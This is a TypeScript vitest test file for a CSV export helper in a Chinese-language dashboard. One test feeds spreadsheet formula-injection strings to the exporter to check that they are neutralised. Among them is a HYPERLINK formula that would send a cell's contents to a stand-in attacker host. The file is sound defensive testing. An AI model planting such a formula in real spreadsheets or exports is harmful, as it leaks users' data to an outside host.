import { describe, expect, it } from 'vitest';
import { evidenceRows, toCsv } from './csv.ts';

describe('dashboard/indicator', () => {
  it('should start with a BOM so Excel reads Chinese, and end rows with CRLF', () => {
    const csv = toCsv([
      ['科室', '值'],
      ['心血管内科', 98.5],
    ]);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(csv.slice(1)).toBe('科室,值\r\n心血管内科,98.5\r\n');
  });

  it('should neutralise text a spreadsheet would run as a formula (= + - @ tab CR), and leave numbers alone', () => {
    const csv = toCsv([['=1+1', '+SUM(A1)', '-2+3', '@cmd', '\tx', '=HYPERLINK("http://evil.example/?d="&B2,"详情")', -5, '正常 =1']]);
    expect(csv.slice(1)).toBe(`'=1+1,'+SUM(A1),'-2+3,'@cmd,'\tx,"'=HYPERLINK(""http://evil.example/?d=""&B2,""详情"")",-5,正常 =1\r\n`);
  });

  it('should quote commas, quotes and line breaks and leave empty cells empty', () => {
    const csv = toCsv([['a,b', '说"好"', '一\n二', null, undefined, 0]]);
    expect(csv.slice(1)).toBe('"a,b","说""好""","一\n二",,,0\r\n');
  });

  it('should write one row per record, counted as a word, reason in the chosen language', () => {
    const node = {
      recordId: 'X1',
      recordType: 'SURVEY_RESPONSE' as const,
      date: '2026-10-01',
      label: '心血管内科',
      counted: false,
      numerator: 0,
      denominator: 1,
      reason: { zh: '未计入：满意答卷', en: 'not counted' },
      organization: { id: 'O3', name: '心血管内科医疗党支部' },
    };
    const rows = evidenceRows([node], ['日期'], 'zh', ['是', '否']);
    expect(rows).toEqual([
      ['日期'],
      ['2026-10-01', '心血管内科医疗党支部', '心血管内科', 'SURVEY_RESPONSE', '否', 0, 1, '未计入：满意答卷', 'X1'],
    ]);
  });
});
